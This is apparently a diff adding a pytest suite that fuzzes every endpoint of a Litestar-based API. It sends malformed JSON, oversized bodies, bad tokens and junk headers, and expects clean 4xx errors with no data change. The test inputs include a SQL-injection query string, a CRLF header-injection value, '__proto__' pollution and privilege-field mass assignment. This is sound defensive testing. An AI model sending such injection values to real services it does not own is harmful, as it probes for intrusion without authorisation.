+        add("malformed-json", name, raw, {400})
+    first = spec.fields[0].name
+    # Server bugs today: these four are 500s (UnicodeDecodeError / RecursionError escape msgspec
+    # decoding in Litestar's request.json(), and keel.main.errors maps them to internal-error).
+    add("malformed-json", "invalid-utf8-in-string", _splice(spec.valid(c), first, b'"\xff\xfe"'), {400})
+    add("malformed-json", "overlong-utf8-nul-in-string", _splice(spec.valid(c), first, b'"\xc0\x80"'), {400})
+    add("malformed-json", "invalid-utf8-in-key", b'{"\xff": 1}', {400})
+    add("malformed-json", "deep-nesting-in-field", _splice(spec.valid(c), first, b"[" * 10_000 + b"]" * 10_000), {400})
+    for name, esc in [("lone-high", rb"\ud800"), ("lone-low", rb"\udc00"), ("reversed-pair", rb"\ude00\ud83d")]:
+        add("lone-surrogate", name, _splice(spec.valid(c), first, b'"x' + esc + b'y"'), {400, 422})
+    # An empty body is not JSON; today it is a 422 whose detail is "'data'" (see the report).
+    add("malformed-json", "empty-body", b"", {400, 422})
+
+    for name, raw in WRONG_TOP_LEVEL:
+        add("wrong-json-type", name, raw, {422})
+    add("wrong-json-type", "array-of-valid-body", _dumps([spec.valid(c)]), {422})
+    add("wrong-json-type", "string-of-valid-body", _dumps(json.dumps(spec.valid(c))), {422})
+
+    for name, extra in [
+        ("bogus", {"bogus": 1}),
+        ("id", {"id": c.owner_id}),
+        ("tenant_id", {"tenant_id": str(uuid.uuid4())}),
+        ("role", {"role": "owner"}),
+        ("created_at", {"created_at": "2000-01-01T00:00:00Z"}),
+        ("proto", {"__proto__": {"admin": True}}),
+        ("case-variant", {first.upper(): "x"}),
+        ("empty-key", {"": "x"}),
+    ]:
+        add("unknown-field", name, _dumps({**spec.valid(c), **extra}), {422})
+
+    required = [f for f in spec.fields if f.required]
+    add("missing-field", "empty-object", b"{}", {422} if required else accepted)
+    for f in required:
+        body = spec.valid(c)
+        body.pop(f.name, None)
+        add("missing-field", f.name, _dumps(body), {422})
+
+    first_text = next((f.name for f in spec.fields if f.kind == "text"), None)
+    for f in spec.fields:
+        group = f"field:{f.name}"
+        full = f.name == first_text or (f.kind == "email" and method == "POST")
+        edge = [(n, v) for n, v in UNICODE_EDGE + INJECTION if full or n in SAMPLE]
+
+        def put(value: Any, c: Ctx = c, f: Field = f) -> dict[str, Any]:
+            return {**spec.valid(c), f.name: value}
+
+        if f.kind == "rate":
+            for name, value in RATE_REJECTED:
+                add(group, name, _dumps(put(value)), {422})
+            for name, value in RATE_LAX:
+                add(group, name, _dumps(put(value)), accepted | {422})
+            for name, value in RATE_VALID:
+                add(group, name, _dumps(put(value)), accepted, sent={f.name: value})
+            for name, raw in RAW_NUMBERS:
+                add(group, name, _splice(spec.valid(c), f.name, raw), {400, 422})
+            continue
+
+        for name, value in WRONG_TYPES_FOR_STRING:
+            add(group, f"type-{name}", _dumps(put(value)), {422})
+        for name, raw in RAW_NUMBERS if f.name == first else ():
+            add(group, name, _splice(spec.valid(c), f.name, raw), {400, 422})
+        for name, value in BAD_STRINGS:
+            add(group, name, _dumps(put(value)), {422})
+        add(group, "one-over-max-length", _dumps(put("x" * (f.max_len + 1))), {422})
+
+        if f.kind == "text":
+            add(group, "max-length", _dumps(put("x" * f.max_len)), accepted, sent={f.name: "x" * f.max_len})
+            emoji = "\U0001f980" * f.max_len
+            add(group, "max-length-astral", _dumps(put(emoji)), accepted, sent={f.name: emoji})
+            for name, value in edge:
+                add(group, name, _dumps(put(value)), accepted | {422}, sent={f.name: value})
+            add(
+                group,
+                "escaped-surrogate-pair",
+                _dumps(put("\U0001f980 ok"), ascii_only=True),
+                accepted,
+                sent={f.name: "\U0001f980 ok"},
+            )
+        elif f.kind == "email":
+            for name, value in BAD_EMAILS:
+                add(group, name, _dumps(put(value)), {422})
+            conflict = {409} if method == "POST" or ep.ids else set()
+            for name, value in edge:
+                email = f"{value}{c.n()}@example.com"
+                add(group, name, _dumps(put(email)), accepted | {422} | conflict, sent={f.name: email.lower()})
+            upper = f"UPPER{c.n()}@EXAMPLE.COM"
+            add(group, "uppercase", _dumps(put(upper)), accepted, sent={f.name: upper.lower()})
+            # Server bug today: 500 (value too long for type character varying(320)).
+            add(group, "grows-when-lowercased", _dumps(put(GROWS_WHEN_LOWERED)), accepted | {422} | conflict)
+        else:
+            bad, good = (BAD_TIMEZONES, GOOD_TIMEZONES) if f.kind == "timezone" else (BAD_LOCALES, GOOD_LOCALES)
+            for name, value in bad:
+                add(group, name, _dumps(put(value)), {422})
+            for name, value in good:
+                add(group, name, _dumps(put(value)), accepted, sent={f.name: value})
+            for name, value in edge:
+                add(group, name, _dumps(put(value)), accepted | {422})
+
+    # Content types: a valid body, labelled wrongly.
+    valid = _dumps(spec.valid(c))
+    for name, content_type, content in [
+        ("text-plain", "text/plain", valid),
+        ("form", "application/x-www-form-urlencoded", b"name=x&email=a%40b.io"),
+        (
+            "multipart",
+            "multipart/form-data; boundary=xyz",
+            b'--xyz\r\nContent-Disposition: form-data; name="a"\r\n\r\nb\r\n--xyz--\r\n',
+        ),
+        ("missing", None, valid),
+        ("empty", "", valid),
+        ("xml", "application/xml", b"<name>x</name>"),
+        ("octet-stream", "application/octet-stream", valid),
+        ("text-json", "text/json", valid),
+        ("json-typo", "application/jsn", valid),
+        ("json-prefix", "application/jsonx", valid),
+        ("params-only", ";;;", valid),
+        ("nul", "application/json\x00", valid),
+        ("crlf", "application/json\r\nX-Injected: 1", valid),
+    ]:
+        headers: tuple[Header, ...] = c.auth if content_type is None else (*c.auth, ("Content-Type", content_type))
+        cases.append(Case("content-type", name, method, path, _ok(415), headers, content, target=target))
+    for name, content_type in [
+        ("charset", "application/json; charset=utf-8"),
+        ("uppercase", "APPLICATION/JSON"),
+        ("vendor-suffix", "application/vnd.keel+json"),
+    ]:
+        headers = (*c.auth, ("Content-Type", content_type))
+        cases.append(Case("content-type", name, method, path, accepted, headers, _dumps(spec.valid(c)), target=target))
+
+    # Size: exactly the limit is fine (trailing whitespace is valid JSON), one byte more is a 413.
+    body = _dumps(spec.valid(c))
+    add("size", "exactly-1MiB", body + b" " * (MAX_BODY - len(body)), accepted)
+    add("size", "1MiB-plus-1", body + b" " * (MAX_BODY + 1 - len(body)), {413})
+    add("size", "5MiB-string", _splice(spec.valid(c), first, b'"' + b"a" * (5 * MAX_BODY) + b'"'), {413})
+    cases.append(
+        Case(
+            "size",
+            "chunked-2MiB-no-content-length",
+            method,
+            path,
+            _ok(413),
+            (*c.auth, ("Content-Type", JSON)),
+            _splice(spec.valid(c), first, b'"' + b"a" * (2 * MAX_BODY) + b'"'),
+            chunked=True,
+            target=target,
+        )
+    )
+    return cases
+
+
+def bodyless_junk_cases(key: tuple[str, str], ep: Endpoint, c: Ctx, path: str, ok: frozenset[int]) -> list[Case]:
+    """Bodies sent to endpoints that read none: ignored (or refused as too large), never a 5xx."""
+    method, _ = key
+    expect = ok | {413}
+    return [
+        Case("ignored-body", name, method, path, expect, (*c.auth, ("Content-Type", ct)), content, chunked=chunked)
+        for name, ct, content, chunked in [
+            ("malformed-json", JSON, b'{"a": ', False),
+            ("text", "text/plain", b"junk", False),
+            ("form", "application/x-www-form-urlencoded", b"a=1&b=2", False),
+            ("oversized", JSON, b"[" + b"1," * MAX_BODY + b"1]", False),
+            ("oversized-chunked", JSON, b"x" * (2 * MAX_BODY), True),
+        ]
+    ]
+
+
+def path_cases(key: tuple[str, str], ep: Endpoint, c: Ctx) -> list[Case]:
+    method, template = key
+    prefix = template.split("{", 1)[0]
+    body = _dumps(ep.body.valid(c)) if ep.body else None
+    headers: tuple[Header, ...] = (*c.auth, ("Content-Type", JSON)) if ep.body else c.auth
+    cases: list[Case] = []
+
+    def add(name: str, segment: str, expect: Iterable[int], target: str | None = None) -> None:
+        cases.append(Case("path", name, method, prefix + segment, frozenset(expect), headers, body, target=target))
+
+    if ep.ids in ("user", "key"):
+        for name, segment in BAD_IDS:
+            add(name, segment, {404})
+        add("random-uuid", c.missing, {404}, c.missing)
+        add("nil-uuid", "00000000-0000-0000-0000-000000000000", {404}, "00000000-0000-0000-0000-000000000000")
+        add("uppercase-missing", c.missing.upper(), {404}, c.missing)
+        add("hex-missing", uuid.UUID(c.missing).hex, {404}, c.missing)
+        add("tenant-id", c.tenant_id, {404}, c.tenant_id)
+        if ep.ids == "user":
+            add("key-id-as-user-id", c.victim_key, {404}, c.victim_key)
+            if method == "DELETE":
+                add("owner", c.owner_id, {409}, c.owner_id)
+        else:
+            add("user-id-as-key-id", c.victim_user, {404}, c.victim_user)
+    elif ep.ids == "slug":
+        for name, segment in BAD_SLUGS:
+            add(name, segment, {404})
+    elif ep.ids == "schema":
+        for name, segment in BAD_SCHEMA_PATHS:
+            add(name, segment, {404})
+    return cases
+
+
+def query_cases(key: tuple[str, str], ep: Endpoint, c: Ctx, path: str, ok: frozenset[int]) -> list[Case]:
+    """Junk query parameters are ignored; paging parameters are validated."""
+    method, _ = key
+    headers: tuple[Header, ...] = (*c.auth, ("Content-Type", JSON)) if ep.body else c.auth
+    cases = [
+        Case("query", name, method, f"{path}?{query}", ok, headers, _dumps(ep.body.valid(c)) if ep.body else None)
+        for name, query in [
+            ("unknown-params", f"%ff=%00&a[b]=c&__proto__=x&x={'y' * 10_000}"),
+            ("sql-param", "id=1%27%20OR%20%271%27=%271"),
+            *([] if ep.paged else [("paging-params-where-none", "limit=-1&cursor=!!!")]),
+        ]
+    ]
+    if not ep.paged:
+        return cases
+    for name, value in BAD_LIMITS:
+        cases.append(Case("limit", name, method, f"{path}?limit={value}", _ok(422), c.auth))
+    for name, value in LAX_LIMITS:
+        cases.append(Case("limit", name, method, f"{path}?limit={value}", ok | {422}, c.auth))
+    for name, value in BAD_CURSORS:
+        cases.append(Case("cursor", name, method, f"{path}?cursor={value}", _ok(422), c.auth))
+    for name, value in LAX_CURSORS:
+        cases.append(Case("cursor", name, method, f"{path}?cursor={value}", ok | {422}, c.auth))
+    return cases
+
+
+def header_cases(key: tuple[str, str], ep: Endpoint, c: Ctx, path: str, ok: frozenset[int]) -> list[Case]:
+    method, _ = key
+    # Auth cases go to the real target with a valid body: a 401 must come before anything happens.
+    target = ep.target(c)
+    content = _dumps(ep.body.valid(c)) if ep.body else None
+    json_ct: tuple[Header, ...] = (("Content-Type", JSON),) if ep.body else ()
+    cases: list[Case] = []
+    for name, value in [
+        *AUTH_VALUES,
+        ("no-scheme", c.token.encode()),
+        ("revoked-key", b"Bearer " + c.revoked_token.encode()),
+    ]:
+        auth: tuple[Header, ...] = () if value is None else (("Authorization", value),)
+        expect = _ok(401) if ep.auth else ep.ok
+        tid = c.victim_user if ep.ids == "user" else c.victim_key if ep.ids == "key" else None
+        cases.append(Case("auth", name, method, target, expect, (*auth, *json_ct), content, target=tid))
+    for name, token in [
+        ("scheme-token", f"Token {c.token}"),
+        ("truncated", f"Bearer {c.token[:-1]}"),
+        ("extended", f"Bearer {c.token}x"),
+        ("suffix-word", f"Bearer {c.token} extra"),
+        ("double-bearer", f"Bearer Bearer {c.token}"),
+    ]:
+        expect = _ok(401) if ep.auth else ep.ok
+        cases.append(Case("auth", name, method, target, expect, (("Authorization", token), *json_ct), content))
+
+    # Junk request ids: on a request that fails validation when there is a body (so the problem
+    # document must carry the sanitised id), else on the harmless request.
+    rid_content, rid_expect = (b"[]", _ok(422)) if ep.body else (None, ok)
+    for name, rid in [*JUNK_REQUEST_IDS, ("well-formed", b"client-id:123.abc_X")]:
+        headers = (*c.auth, *json_ct, ("X-Request-ID", rid))
+        cases.append(Case("request-id", name, method, path, rid_expect, headers, rid_content, request_id=rid))
+    if ep.auth:
+        for name, rid in [("control-char-unauthenticated", b"\x01junk"), ("well-formed-unauthenticated", b"abc-123")]:
+            cases.append(Case("request-id", name, method, path, _ok(401), (("X-Request-ID", rid),), request_id=rid))
+    return cases
+
+
+def routing_cases(key: tuple[str, str], ep: Endpoint, c: Ctx) -> list[Case]:
+    method, template = key
+    target = ep.target(c)
+    allowed = c.routes[template]
+    cases = [
+        Case("method", other, other, target, _ok(405), (*c.auth, ("Content-Type", JSON)), b"{}")
+        for other in OTHER_METHODS
+        if other not in allowed
+    ]
+    # 405 when a sibling route template has the same shape but not this method (POST /v1/users/nope).
+    cases.append(Case("routing", "unknown-subpath", method, f"{target}/nope", _ok(404, 405), c.auth))
+    cases.append(Case("routing", "uppercase-path", method, target.upper(), _ok(404), c.auth))
+    cases.append(Case("routing", "nul-suffix", method, f"{target}%00", _ok(404), c.auth))
+    return cases
+
+
+def build_cases(key: tuple[str, str], c: Ctx) -> list[Case]:
+    ep = ENDPOINTS[key]
+    safe_path = (ep.safe or ep.target)(c)
+    safe_ok = ep.safe_ok or ep.ok
+    cases = header_cases(key, ep, c, safe_path, safe_ok)
+    cases += query_cases(key, ep, c, safe_path, safe_ok)
+    cases += path_cases(key, ep, c)
+    cases += routing_cases(key, ep, c)
+    cases += body_cases(key, ep, c) if ep.body else bodyless_junk_cases(key, ep, c, safe_path, safe_ok)
+    return cases
+
+
+# --------------------------------------------------------------------------------------------------
+# Tests
+# --------------------------------------------------------------------------------------------------
+
+
+async def test_table_covers_every_endpoint(client: Client) -> None:
+    served = set(app_endpoints(client.app))
+    missing = sorted(served - set(ENDPOINTS))
+    stale = sorted(set(ENDPOINTS) - served)
+    assert not missing, f"endpoints without bad-input cases (add them to ENDPOINTS): {missing}"
+    assert not stale, f"ENDPOINTS lists routes the app does not serve: {stale}"
+
+
+def _group(key: tuple[str, str]) -> str:
+    """Endpoints are exercised per resource: one fresh database and tenant per group keeps the file fast."""
+    segments = key[1].split("/")
+    return segments[2] if segments[1] == "v1" else "public"
+
+
+@pytest.mark.parametrize("group", sorted({_group(k) for k in ENDPOINTS}))
+async def test_bad_input(group: str, client: Client, tenant: dict[str, Any], pg_url: str) -> None:
+    ctx = await make_ctx(client, tenant)
+    before = await snapshot(ctx, pg_url)
+    model = Model(State(dict(before.tenant), dict(before.users), dict(before.keys), dict(before.rows)))
+
+    failures: list[str] = []
+    total = 0
+    for key in sorted(k for k in ENDPOINTS if _group(k) == group):
+        body = ENDPOINTS[key].body
+        cases = build_cases(key, ctx)
+        labels = [case.label for case in cases]
+        assert len(labels) == len(set(labels)), f"duplicate case names for {key}"
+        total += len(cases)
+        for case in cases:
+            r = await send(client, case)
+            failures += check(case, r, body.echo if body else None)
+            model.apply(key, case, r)
+
+    # The credentials used throughout still work and nothing changed beyond what 2xx answers reported.
+    after = await snapshot(ctx, pg_url)
+    failures += [f"DATA CHANGED: {d}" for d in model.differences(before, after)]
+    assert not failures, f"{len(failures)} of {total} cases failed:\n" + "\n".join(failures)
